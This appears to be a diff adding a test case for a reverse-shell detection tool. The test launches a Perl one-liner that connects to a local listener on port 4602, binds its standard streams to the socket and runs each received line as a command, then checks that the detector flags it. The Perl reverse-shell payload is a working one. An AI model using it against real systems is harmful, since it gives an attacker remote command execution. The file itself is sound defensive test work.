@@ -1,0 +1,21 @@
+# R26b: perl runs what a peer sends, without a shell
+# stage: equipped
+# expect: reverse_shell_detected
+#   detection.reason: ~outbound
+#   reverse_shell.process_list.0.process_id: $perl
+#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4602
+#   reverse_shell.process_list.length: 1
+#   detection.confidence: medium
+
+#: prepare
+. lib/peers.sh
+commander 4602 300 'sleep 0.1'
+#: act
+. lib/peers.sh
+act
+perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);
+connect(S, sockaddr_in(4602, inet_aton("127.0.0.1"))) or die;
+open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
+$| = 1; while (<STDIN>) { system($_); print "done\n" }' \
+  < /dev/null > /dev/null 2>&1 & fact perl $!
+await 'at $perl 0 socket:* && same $perl 0 $perl 1'
